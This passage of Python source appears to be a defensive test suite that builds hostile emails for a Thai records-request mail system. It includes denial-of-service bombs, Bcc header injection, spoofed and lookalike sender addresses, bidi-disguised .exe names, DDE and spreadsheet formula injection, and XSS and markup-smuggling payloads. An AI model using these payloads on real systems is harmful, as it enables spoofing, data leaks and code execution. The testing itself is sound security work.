            b'Content-Type: text/plain; charset="' + codec.encode() + b'"\r\n'
            b"Content-Disposition: inline\r\n\r\n" + escape_bomb[:20_000] + b" +AGEA- xn--zz\r\n"
        )
    parts.append(
        b"Content-Type: text/plain; charset=unicode_escape\r\n\r\n" + escape_bomb + b"\r\n"
    )
    parts.append(
        b"Content-Type: text/plain; charset=punycode\r\n\r\n"
        + b"a" * 50
        + b"-"
        + b"z9" * 100_000
        + b"\r\n"
    )
    parts.append(
        b'Content-Type: text/html\r\n\r\n<html><head><meta charset="rot13">'
        b'<meta http-equiv="Content-Type" content="text/html; charset=uu"></head>'
        b"<body>abc</body></html>\r\n"
    )
    return (
        head(n, b'Content-Type: multipart/mixed; boundary="cz"\r\n\r\n', subject=subject)
        + b"".join(b"--cz\r\n" + p + b"\r\n" for p in parts)
        + b"--cz--\r\n"
    )


def thai_marks_canonical_order(n: int) -> bytes:
    """A Thai consonant carrying 120,000 marks alternating MAI EK (combining class 107)
    and SARA U (103) in the body, 30,000 in the Subject and the display name: Unicode
    normalisation (NFC, NFKC) sorts a run of marks by class with an insertion sort, so one
    run costs its length squared (40,000 marks: 9 s here; 240,000: five minutes)."""
    tower = "ก" + "\u0e48\u0e38" * 120_000
    small = ("ข" + "\u0e48\u0e38" * 15_000).encode()
    name = b"=?utf-8?b?" + base64.b64encode(small) + b"?="
    text = (body(n) + f"ที่อยู่: 12 หมู่ 3 {tower}\n").encode()
    return (
        head(
            n, subject=b"=?utf-8?b?" + base64.b64encode("คำร้อง ".encode() + small) + b"?="
        ).replace(b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?=", b"From: " + name)
        + b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(text).replace(b"\n", b"\r\n")
    )


def mime_folded_floods(n: int) -> bytes:
    """A Subject of 4 MB in 800,000 folded lines and a body part whose Content-Type holds
    120,000 folded parameters (every charset lookup reparses them all)."""
    subject = b"\r\n ".join([b"=?utf-8?b?4LiC4Lit?="] + [b"x"] * 800_000)
    params = b"".join(b";\r\n p%d=v" % i for i in range(120_000))
    return (
        head(n, subject=subject)
        + b"Content-Type: text/plain; charset=utf-8"
        + params
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(body(n).encode()).replace(b"\n", b"\r\n")
    )


# --- the acknowledgement and the reply rule ------------------------------------------------

SPLITLINES_ONLY = ["\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def ack_splitlines_breaks(n: int) -> bytes:
    """Characters str.splitlines() breaks a line at but RFC 5322 does not (VT, FF, the
    ASCII separators, NEL, LINE/PARAGRAPH SEPARATOR), each followed by a Bcc to the victim:
    raw in the Subject (the ASCII ones) and decoded from encoded words in the Subject and
    the display name. A header writer that folds with splitlines() turns them into CRLF."""
    raw_breaks = "".join(f"{c}Bcc: {VICTIM}" for c in SPLITLINES_ONLY[:5]).encode()
    encoded = base64.b64encode(
        "ขอข้อมูล".encode() + "".join(f"{c}Bcc: {VICTIM}" for c in SPLITLINES_ONLY).encode()
    )
    name = base64.b64encode(("สมศรี" + "\u2028Bcc: " + VICTIM + "\x85Cc: " + VICTIM).encode())
    subject = b"Re: " + raw_breaks + b" =?utf-8?b?" + encoded + b"?="
    return head(n, subject=subject).replace(
        b"From: =?utf-8?b?4Lic4Li54LmJ4Lij4LmJ4Lit4LiH?=", b"From: =?utf-8?b?" + name + b"?="
    ) + text_part(n)


def ack_address_tricks() -> list[tuple[str, list[str]]]:
    """From headers whose mailbox is the attacker's but whose text holds the victim in
    a comment, an encoded display name, a fold or a route, and headers some clients
    answer instead of From (Resent-From, Mail-Reply-To, Mail-Followup-To, Errors-To,
    Return-Receipt-To, Disposition-Notification-To). Each: (From, extra headers)."""
    v = VICTIM
    encoded = base64.b64encode(f"<{v}>".encode()).decode()
    return [
        (f"a1@evil.example (Kasem <{v}>)", []),
        (f"=?utf-8?b?{encoded}?= <a2@evil.example>", []),
        (f'"Kasem" <a3@evil.example> (<{v}>)', []),
        (f"<@{v.split('@')[1]}:a4@evil.example>", []),
        (f"a5@evil.example (\r\n <{v}>)", []),
        (
            "a6@evil.example",
            [
                f"Resent-From: {v}",
                f"Resent-Sender: {v}",
                f"Mail-Reply-To: {v}",
                f"Mail-Followup-To: {v}",
                f"Errors-To: {v}",
                f"Return-Receipt-To: {v}",
                f"Disposition-Notification-To: {v}",
                f"X-Confirm-Reading-To: {v}",
            ],
        ),
    ]


def lookalikes() -> list[str]:
    """The victim's address as other mailboxes spell it: the Kelvin sign (lower() gives k),
    a long s (casefold() gives s), full-width letters (NFKC gives ASCII), a Cyrillic а in
    the domain, a zero-width space, and the victim's own with a trailing dot on the domain."""
    return [
        "\u212aasem.suk@example.org",
        "ka\u017fem.suk@example.org",
        "\uff4b\uff41\uff53\uff45\uff4d.suk@example.org",
        "kasem.suk@ex\u0430mple.org",
        "kasem\u200b.suk@example.org",
    ]


# --- what the clerk exports and opens ------------------------------------------------------

BIDI_EXPORT = "\u202e"  # RIGHT-TO-LEFT OVERRIDE


def export_bidi_mail(n: int) -> bytes:
    """Bidi overrides and isolates in the Subject, the display name, a form field and a
    file name: in a spreadsheet cell `ใบเสร็จ\u202efdp.exe` reads `ใบเสร็จexe.pdf`."""
    p = CITIZEN
    out = EmailMessage()
    out["From"] = f"สมศรี \u202eนาสก\u202c <citizen606.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = "ใบเสร็จ\u202efdp.exe \u2067เร่งด่วน\u2069"
    out["Message-ID"] = f"<hostile6-{n}@example.org>"
    out.set_content(
        body(n).replace(
            "เรื่อง: ขอข้อมูลข่าวสารของราชการ", "เรื่อง: ขอข้อมูล \u202eSLX.exe\u202c \u2066x\u2069"
        )
        + f"ที่อยู่: 9 \u202eหมู่ 1\u202c {p.n}\n"
    )
    out.add_attachment(
        b"%PDF-1.4 tiny", maintype="application", subtype="pdf", filename="scan\u202egpj.exe"
    )
    return bytes(out)


FORMULAS_6 = [
    '=HYPERLINK("http://127.0.0.1:9/6","ดู")',
    "+SUM(1,1)",
    "-1+cmd|' /C calc'!A0",
    "@SUM(2,2)",
    "\t=1+6",
    "\r=2+6",
    '=DDE("cmd";"/C calc";"x")',
]


def formulas_every_field(n: int) -> bytes:
    """A formula in each field a clerk exports that set 5 left out: address, postal
    code, province, the email's local part, details, an attachment name (twice), a
    Reply-To display name and the Message-ID; plus a reply whose subject is a formula."""
    p = CITIZEN
    f = FORMULAS_6
    out = EmailMessage()
    out["From"] = f'"{f[3]}" <citizen606.{n}@example.org>'
    out["Reply-To"] = f'"{f[0]}" <citizen606.{n}@example.org>'
    out["To"] = "saraban@example.go.th"
    out["Subject"] = f[2]
    out["Message-ID"] = f"<=1+6.{n}@example.org>"
    out.set_content(
        "เรียน เจ้าหน้าที่\n\n"
        f"ชื่อ-นามสกุล: {f[1]} {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone}\n"
        f"อีเมล: =cmd@example.org\n"
        f"ที่อยู่: {f[0]}\n"
        f"รหัสไปรษณีย์: {f[3]}\n"
        f"จังหวัด: {f[6]}\n"
        f"เรื่อง: {f[4]}\n"
        f"รายละเอียด: {f[5]}\n"
    )
    out.add_attachment(b"%PDF-1.4 x", maintype="application", subtype="pdf", filename=f"{f[0]}.pdf")
    out.add_attachment(b"plain", maintype="text", subtype="plain", filename="=1+1.txt")
    return bytes(out)


def link_values_mail(n: int) -> bytes:
    """Field values made for the links a page builds: an email with mailto parameters
    (a clerk's click writes to a victim with a body of ours), a javascript: and a data:
    URL in a website-like field, a phone with a tel: parameter, quotes to leave an
    attribute, and markup in the names of attachments."""
    p = CITIZEN
    out = EmailMessage()
    out["From"] = f"ผู้ร้อง <citizen606.{n}@example.org>"
    out["To"] = "saraban@example.go.th"
    out["Subject"] = 'ขอข้อมูล" onmouseover="alert(61)" x="'
    out["Message-ID"] = f"<hostile6-{n}@example.org>"
    out.set_content(
        "เรียน เจ้าหน้าที่\n\n"
        f"ชื่อ-นามสกุล: {p.name}\n"
        f"เลขประจำตัวประชาชน: {p.national_id_dashed}\n"
        f"โทรศัพท์: {p.phone};ext=1?call=javascript:alert(62)\n"
        f"อีเมล: citizen606.{n}@example.org?cc={VICTIM}&body=โอนเงิน\n"
        "เว็บไซต์: javascript:alert(63)//\n"
        "ลิงก์: data:text/html;base64,PHNjcmlwdD5hbGVydCg2NCk8L3NjcmlwdD4=\n"
        "ที่อยู่: 1' onfocus='alert(65)' autofocus='\n"
        f'รายละเอียด: ดู https://evil.example/x"><script>alert(66)</script> HOSTILE6MARK{n}\n'
    )
    out.add_attachment(
        b"%PDF-1.4 x",
        maintype="application",
        subtype="pdf",
        filename='"><img src=x onerror=alert(67)>.pdf',
    )
    return bytes(out)


SCRIPT = b"<script>document.title='pwned6'</script>"


def markup_attachments() -> list[tuple[bytes, str, str, str]]:
    """Markup under every name a preview might trust: an SVG declared image/png named
    scan.png, HTML named .pdf, XHTML, XML with an XSLT stylesheet, a JPEG whose bytes go
    on as HTML, an HTML file with a UTF-7 meta, and a text/plain that is HTML."""
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'pwned6\'">'
        + SCRIPT.replace(b"<script>", b"<script><![CDATA[").replace(b"</script>", b"]]></script>")
        + b"</svg>"
    )
    html = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
    xhtml = (
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
        + SCRIPT
        + b"</body></html>"
    )
    xml = (
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'
        b'<doc><xsl:stylesheet id="s" version="1.0" '
        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        b'<html><body><script>document.title="pwned6"</script></body></html>'
        b"</xsl:template></xsl:stylesheet></doc>"
    )
    jpeg_html = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + html
    return [
        (svg, "image", "png", "scan.png"),
        (html, "application", "pdf", "form.pdf"),
        (xhtml, "application", "xhtml+xml", "page.xhtml"),
        (xml, "text", "xml", "data.xml"),
        (jpeg_html, "image", "jpeg", "photo.jpg"),
        (html, "text", "plain", "note.txt"),
        (svg, "image", "svg+xml", "sign.svg"),
    ]


def markup_attachments_mail(n: int) -> bytes:
    out = mail(n)
    for content, maintype, subtype, filename in markup_attachments():
        out.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(out)


CASE = "a case is made, the citizen's name read"
BOUNDED = "a final state within its limit, the worker under 300 MB, the request behind a case"
NOTHING_OUT = "nothing of the host read, nothing fetched, nothing written"

ATTACKS: list[Attack] = [
    # PDF structures
    Attack(
        "pdf_parent_cycle",
        "inherited attributes looked up a /Parent ring",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_parent_cycle),
    ),
    Attack(
        "pdf_nested_dicts",
        "dictionaries 100,000 deep in /Info, 50,000 in a page",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_nested_dicts),
    ),
    Attack(
        "pdf_objstm_bomb",
        "an object stream header of 48 million pairs",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_objstm_bomb),
    ),
    Attack(
        "pdf_xref_index_two_billion",
        "an xref stream declaring 2^31 entries",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_xref_index_two_billion),
    ),
    Attack(
        "pdf_outline_and_name_tree_loops",
        "outlines, name trees and page labels that go round",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_outline_and_name_tree_loops),
    ),
    Attack(
        "pdf_field_parent_cycle",
        "a form field's qualified name up a /Parent ring",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_field_parent_cycle),
    ),
    Attack(
        "pdf_cmap_pickle_path",
        "a font's CMap name makes the reader unpickle a file of ours",
        f"{CASE}; {NOTHING_OUT}",
        pdf_cmap_pickle_path,
    ),
    # pictures
    Attack(
        "apng_1000_frames",
        "1,000 A4 frames in one APNG, each OCRed",
        f"{BOUNDED}; {CASE}",
        _file(apng_frames, "image", "png", "scan.png"),
    ),
    Attack(
        "webp_animated_canvas",
        "an animated WebP on an 81 Mpx canvas, 400 frames",
        f"{BOUNDED}; {CASE}",
        _file(webp_animated_canvas, "image", "webp", "photo.webp"),
    ),
    Attack(
        "phone_photo_formats",
        "HEIC, AVIF claiming 60000x60000, JPEG XL",
        f"{BOUNDED}; {CASE}",
        _files(phone_photos),
    ),
    Attack(
        "svg_laughs_and_external_use",
        "billion laughs, <use>/<image> of a host file and a URL",
        f"{BOUNDED}; {CASE}; {NOTHING_OUT}",
        lambda bait, n: attach(n, svg_laughs_and_external_use(bait), "image", "svg+xml", "a.svg"),
    ),
    # office parts
    Attack(
        "docx_million_empty_runs",
        "one 9 MB line: a million empty runs, 200,000 bookmarks",
        f"{BOUNDED}; {CASE}",
        _file(docx_million_empty_runs, *DOCX, "form.docx"),
    ),
    Attack(
        "docx_style_and_numbering_loops",
        "basedOn A->B->A, numbering linked to a style linked back",
        f"{BOUNDED}; {CASE}",
        _file(docx_style_and_numbering_loops, *DOCX, "form.docx"),
    ),
    Attack(
        "xlsx_whole_sheet_ranges",
        "a merge and formats over 17 billion cells",
        f"{BOUNDED}; {CASE}",
        _file(xlsx_whole_sheet_ranges, *XLSX, "form.xlsx"),
    ),
    Attack(
        "xlsx_million_styles",
        "a million cell formats read before any cell",
        f"{BOUNDED}; {CASE}",
        _file(xlsx_million_styles, *XLSX, "form.xlsx"),
    ),
    # MIME
    Attack(
        "mime_external_body",
        "message/external-body naming a host file, a URL, an FTP site",
        f"{BOUNDED}; {CASE}; {NOTHING_OUT}",
        mime_external_body,
    ),
    Attack(
        "mime_uuencoded_paths",
        "uuencoded files named by absolute and climbing paths",
        f"{BOUNDED}; {CASE}; {NOTHING_OUT}",
        mime_uuencoded_paths,
    ),
    Attack(
        "mime_rfc822_base64_layers",
        "22 layers of message/rfc822, each in base64",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_rfc822_base64_layers),
    ),
    Attack(
        "charset_codec_zoo",
        "rot13, base64, idna, punycode, unicode_escape... as charsets",
        f"{BOUNDED}; {CASE}",
        _mail_builder(charset_codec_zoo),
    ),
    Attack(
        "thai_marks_canonical_order",
        "240,000 alternating marks: normalisation's insertion sort",
        f"{BOUNDED}; {CASE}",
        _mail_builder(thai_marks_canonical_order),
    ),
    Attack(
        "mime_folded_floods",
        "800,000 folded Subject lines, 120,000 folded parameters",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_folded_floods),
    ),
]

# Run by the mail and web tests (their own harness), not in the worker's drop folder.
PRIVACY: list[Attack] = [
    Attack(
        "ack_splitlines_breaks",
        "VT, FF, NEL, U+2028 turned into CRLF: a Bcc in the ack",
        "the ack goes to the sender alone; no header of the attacker's",
        _mail_builder(ack_splitlines_breaks),
    ),
    Attack(
        "ack_address_tricks",
        "the victim in a comment, an encoded name, a route, Resent-From...",
        "no ack reaches the victim",
        lambda _bait, n: b"",
    ),
    Attack(
        "reply_lookalike_address",
        "Kelvin k, long s, full-width, Cyrillic: a reply filed as the citizen's own",
        "each lookalike's mail joins no case or is marked as another sender's",
        lambda _bait, n: b"",
    ),
    Attack(
        "export_bidi_controls",
        "U+202E in subject, name, field, file name: exe reads as pdf in Excel",
        "no bidi control in a CSV or XLSX cell as itself",
        _mail_builder(export_bidi_mail),
    ),
    Attack(
        "formulas_every_field",
        "a formula in each exported field set 5 left out",
        "no cell of any export starts a formula",
        _mail_builder(formulas_every_field),
    ),
    Attack(
        "link_values",
        "mailto parameters, javascript: and data: URLs, attribute breaks",
        "no link on the page the attacker wrote; no live markup",
        _mail_builder(link_values_mail),
    ),
    Attack(
        "markup_attachments",
        "SVG named .png, HTML named .pdf, XHTML, XSLT, JPEG-HTML",
        "every attachment URL a download (nosniff), never markup on the app's origin",
        _mail_builder(markup_attachments_mail),
    ),
]


def attack_set(bait: Bait, first: int = 600) -> dict[str, bytes]:
    return {a.name: a.build(bait, first + i) for i, a in enumerate(ATTACKS)}


def by_name(name: str) -> Attack:
    (found,) = [a for a in ATTACKS + PRIVACY if a.name == name]
    return found
